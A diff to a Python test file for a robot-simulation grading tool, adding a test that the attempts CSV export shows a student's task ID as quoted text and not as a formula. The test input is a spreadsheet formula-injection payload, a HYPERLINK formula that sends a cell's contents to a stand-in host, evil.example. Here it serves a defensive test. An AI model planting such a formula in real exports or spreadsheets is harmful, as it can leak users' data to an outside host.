@@ -2,6 +2,8 @@
 
 from __future__ import annotations
 
+import csv
+import io
 import math
 from collections.abc import Callable
 from pathlib import Path
@@ -17,6 +19,7 @@ from simbridge.grading.task import parse_task
 from simbridge.headless import Simulation
 from simbridge.tools.bag import read_messages
 from simbridge.tools.grade import grade_headless
+from simbridge.web.grading import attempts_csv
 
 
 HEADING = default_tasks_dir() / "heading_step.yaml"
@@ -189,3 +192,17 @@ def test_a_robot_killed_and_spawned_again_mid_run_ends_the_run_and_keeps_its_new
     record = grader.results.attempts[run.attempt]
     assert record["status"] == "error" and "removed" in record["reason"]
     assert sim.world.robot_params("r9").mass == 2.0
+
+
+def test_the_csv_shows_a_students_task_id_as_text_never_as_a_formula() -> None:
+    sim = Simulation()
+    grader = Grader(sim.graph, sim.world, ResultsLog(None), {})
+    task = parse_task(
+        "goal: {heading: 1}\ntime_limit: 1\nrubric: {overshoot_pct: {max: 10}}\n",
+        task_id='=HYPERLINK("http://evil.example/?"&A1,"open")',
+    )
+    run = grader.start(None, "", task)
+    grader.cancel("", "test")
+    rows = list(csv.DictReader(io.StringIO(attempts_csv(grader))))
+    assert rows[0]["attempt"] == run.attempt
+    assert rows[0]["task_id"] == "'" + task.id
